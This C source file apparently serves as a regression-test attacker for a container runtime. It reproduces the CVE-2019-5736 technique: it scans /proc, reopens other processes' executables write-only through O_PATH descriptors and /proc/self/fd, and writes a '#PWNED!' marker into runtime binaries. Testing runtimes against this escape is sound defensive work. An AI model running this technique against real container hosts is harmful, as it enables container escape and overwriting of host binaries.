/* exe_attack - the CVE-2019-5736 attacker, run as a container's process.
 *
 *   exe_attack TRIGGER DONE ROUNDS
 *
 * ROUNDS times: wait for a line on the fifo TRIGGER, then look at every
 * other process visible in /proc and try to get at its executable the way
 * the CVE-2019-5736 exploit did: open /proc/N/exe read-only and write-only,
 * open it O_PATH and re-open that descriptor write-only through
 * /proc/self/fd, list /proc/N/fd and open what its entries point to (the
 * runtime's own descriptors), and reach /proc/N/root and /proc/N/cwd.  One
 * line per process and round:
 *
 *   round=R pid=N comm=C exe_ro=E exe_wo=E exe_path=E reopen_wo=E fd_dir=E fd_link=E root=E cwd=E
 *
 * (fd_link is "none" when the listing showed no entry, else the result of
 * the last open, "ok" as soon as one opened.)
 * where E is "ok" or the errno name.  A write-only descriptor that opens on
 * a runtime process (comm "vessel" or "runc") is used: "#PWNED!" is written
 * at the start of the file (the test compares the runtime binary's digest).  O_PATH descriptors are kept, and every later
 * round first retries them write-only (the exploit waits for ETXTBSY to go
 * away): "round=R held pid=N reopen_wo=E".  After each round "round=R end"
 * is printed and the fifo DONE is opened and closed, which tells the other
 * side the round is over. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static const char *ename(int ok, int e) {
  if (ok)
    return "ok";
  const char *n = strerrorname_np(e);
  return n ? n : "?";
}

static int is_runtime(const char *comm) {
  return strcmp(comm, "vessel") == 0 || strcmp(comm, "runc") == 0 || strncmp(comm, "runc:", 5) == 0;
}

static void pwn(int fd, const char *comm) {
  if (is_runtime(comm))
    (void)!pwrite(fd, "#PWNED!\n", 8, 0);
}

static struct { int fd; int pid; char comm[64]; } held[256];
static int n_held;

static void try_reopen(int round) {
  for (int i = 0; i < n_held; i++) {
    char p[64];
    snprintf(p, sizeof(p), "/proc/self/fd/%d", held[i].fd);
    int w = open(p, O_WRONLY | O_CLOEXEC);
    printf("round=%d held pid=%d reopen_wo=%s\n", round, held[i].pid, ename(w >= 0, errno));
    if (w >= 0) {
      pwn(w, held[i].comm);
      close(w);
    }
  }
}

static void probe(int round, int pid) {
  char p[64], comm[64] = "?";
  snprintf(p, sizeof(p), "/proc/%d/comm", pid);
  FILE *f = fopen(p, "re");
  if (f) {
    if (fgets(comm, sizeof(comm), f))
      comm[strcspn(comm, "\n")] = '\0';
    fclose(f);
  }
  snprintf(p, sizeof(p), "/proc/%d/exe", pid);
  int ro = open(p, O_RDONLY | O_CLOEXEC);
  int e_ro = errno;
  int wo = open(p, O_WRONLY | O_CLOEXEC);
  int e_wo = errno;
  if (wo >= 0)
    pwn(wo, comm);
  int pa = open(p, O_PATH | O_CLOEXEC);
  int e_pa = errno;
  int re = -1, e_re = EBADF;
  if (pa >= 0) {
    char q[64];
    snprintf(q, sizeof(q), "/proc/self/fd/%d", pa);
    re = open(q, O_WRONLY | O_CLOEXEC);
    e_re = errno;
    if (re >= 0)
      pwn(re, comm);
    if (n_held < 256) {
      held[n_held].fd = pa;
      snprintf(held[n_held].comm, sizeof(held[0].comm), "%s", comm);
      held[n_held++].pid = pid;
    }
  }
  snprintf(p, sizeof(p), "/proc/%d/fd", pid);
  DIR *d = opendir(p);
  int e_fd = errno;
  const char *fd_link = "none";
  char fd_link_buf[64];
  if (d) {
    struct dirent *de;
    while ((de = readdir(d)) != NULL) {
      if (de->d_name[0] == '.')
        continue;
      char q[300];
      snprintf(q, sizeof(q), "/proc/%d/fd/%s", pid, de->d_name);
      int l = open(q, O_PATH | O_CLOEXEC);
      if (l >= 0) {
        close(l);
        fd_link = "ok";
        break;
      }
      snprintf(fd_link_buf, sizeof(fd_link_buf), "%s", ename(0, errno));
      fd_link = fd_link_buf;
    }
  }
  snprintf(p, sizeof(p), "/proc/%d/root/", pid);
  int root = open(p, O_PATH | O_CLOEXEC);
  int e_root = errno;
  snprintf(p, sizeof(p), "/proc/%d/cwd/", pid);
  int cwd = open(p, O_PATH | O_CLOEXEC);
  int e_cwd = errno;
  printf("round=%d pid=%d comm=%s exe_ro=%s exe_wo=%s exe_path=%s reopen_wo=%s fd_dir=%s fd_link=%s root=%s cwd=%s\n",
         round, pid, comm, ename(ro >= 0, e_ro), ename(wo >= 0, e_wo), ename(pa >= 0, e_pa),
         pa >= 0 ? ename(re >= 0, e_re) : "-", ename(d != NULL, e_fd), fd_link, ename(root >= 0, e_root),
         ename(cwd >= 0, e_cwd));
  if (ro >= 0)
    close(ro);
  if (wo >= 0)
    close(wo);
  if (re >= 0)
    close(re);
  if (d)
    closedir(d);
  if (root >= 0)
    close(root);
  if (cwd >= 0)
    close(cwd);
}

int main(int argc, char **argv) {
  if (argc != 4) {
    fprintf(stderr, "usage: exe_attack TRIGGER DONE ROUNDS\n");
    return 2;
  }
  setvbuf(stdout, NULL, _IOLBF, 0);
  int rounds = atoi(argv[3]);
  for (int r = 1; r <= rounds; r++) {
    int t = open(argv[1], O_RDONLY | O_CLOEXEC);
    if (t < 0) {
      perror("open trigger");
      return 1;
    }
    char buf[64];
    while (read(t, buf, sizeof(buf)) > 0)
      ;
    close(t);
    try_reopen(r);
    DIR *d = opendir("/proc");
    struct dirent *de;
    while (d && (de = readdir(d)) != NULL) {
      int pid = atoi(de->d_name);
      if (pid > 0 && pid != getpid())
        probe(r, pid);
    }
    if (d)
      closedir(d);
    printf("round=%d end\n", r);
    int w = open(argv[2], O_WRONLY | O_CLOEXEC);
    if (w >= 0)
      close(w);
  }
  return 0;
}
